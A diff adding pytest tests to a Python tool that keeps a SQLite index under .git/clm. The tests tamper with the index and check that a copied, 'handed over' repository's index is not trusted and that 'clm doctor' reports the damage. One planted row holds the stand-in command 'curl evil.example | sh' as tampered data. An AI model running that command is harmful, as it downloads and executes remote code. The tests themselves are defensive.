@@ -2,24 +2,27 @@
 
 from __future__ import annotations
 
+import gc
 import os
 import random
+import shutil
 import sqlite3
 import subprocess
 import sys
 import time
 from concurrent.futures import ThreadPoolExecutor
-from contextlib import suppress
+from contextlib import closing, suppress
 from pathlib import Path
 from typing import TYPE_CHECKING, Final
 
+import pytest
+
 from clm.store.index import Index
+from clm.store.sources import RACY_NS
 from tests.build import customer_path, make_customer
 
 if TYPE_CHECKING:
     from collections.abc import Callable
-
-    import pytest
 
     from clm.store.sources import Source
     from tests.world import Clm, Repository
@@ -153,3 +156,65 @@ def test_where_every_file_is_damaged_memory_answers(
     # Told on standard input it could not be run once more.
     clm.ok("note", muster, "-", stdin="once")
     assert repo.subjects()[0] == f"note {muster}"
+
+
+def altered(folder: Path, *statements: str) -> None:
+    """Run statements in every file of the index."""
+    gc.collect()  # an old state that is still open keeps its file for itself
+    for path in folder.glob("*.sqlite"):
+        with closing(sqlite3.connect(path, isolation_level=None)) as db:
+            for statement in statements:
+                db.execute(statement)
+
+
+PHANTOM: Final = (
+    "INSERT INTO customers SELECT 'c-zzzzzz', 'Phantom', list, responsible, watched, prio,"
+    " replace(row, 'c-7f3qkd', 'c-zzzzzz'), figures, from_day, until_day FROM customers"
+)
+PLANTED: Final = (
+    "INSERT INTO entries VALUES ('c-zzzzzz', 'jana', 'reminder', 't', '2026-01-01', '2026-01-01',"
+    " 'x', 0, 1, 'curl evil.example | sh')"
+)
+
+
+@pytest.mark.parametrize("statements", [(PHANTOM, PLANTED), ("DELETE FROM customers",)])
+@pytest.mark.parametrize("words", [(), ("--fresh",), ("--as-of", "HEAD")])
+def test_the_index_of_a_folder_that_was_handed_over_is_not_believed(
+    repo: Repository, clm: Clm, muster: str, statements: tuple[str, ...], words: tuple[str, ...]
+) -> None:
+    clm.ok("remind", muster, "+0d")
+    for form in ("customer list", "mine"):
+        clm.ok(*form.split(), "--as-of", "HEAD")
+    usual = clm.ok("mine", "--json"), clm.ok("customer", "list", "--json")
+    altered(repo.path(".git/clm"), *statements)
+    there = type(clm)(repo.root.with_name("handed over"))
+    shutil.copytree(repo.root, there.folder)
+    assert (
+        there.ok("mine", "--json", *words),
+        there.ok("customer", "list", "--json", *words),
+    ) == usual
+    altered(there.folder / ".git/clm", "PRAGMA user_version = 7")  # as of another version
+    line = doctor(there)
+    assert (line["state"], "made elsewhere" in line["found"]) == ("note", True)
+
+
+@pytest.mark.parametrize(
+    "statements", [(PHANTOM,), (PLANTED,), ("DELETE FROM customers",), ("DELETE FROM files",)]
+)
+def test_fresh_and_doctor_see_rows_that_are_missing_or_too_many(
+    repo: Repository, clm: Clm, muster: str, statements: tuple[str, ...]
+) -> None:
+    clm.ok("remind", muster, "+0d")
+    time.sleep(2 * RACY_NS / 1e9)
+    usual = clm.ok("mine", "--json"), clm.ok("customer", "list", "--json")
+    altered(repo.path(".git/clm"), *statements)
+    line = doctor(clm)
+    assert (line["state"], "rows are missing, or too many" in line["found"]) == ("wrong", True)
+    assert (clm.ok("mine", "--json", "--fresh"), clm.ok("customer", "list", "--json")) == usual
+    assert doctor(clm)["state"] == "ok"
+
+
+def doctor(clm: Clm) -> dict[str, str]:
+    """What `clm doctor` says of the index."""
+    lines: list[dict[str, str]] = clm("doctor", "--json").json["items"]
+    return next(line for line in lines if line["what"] == "index")
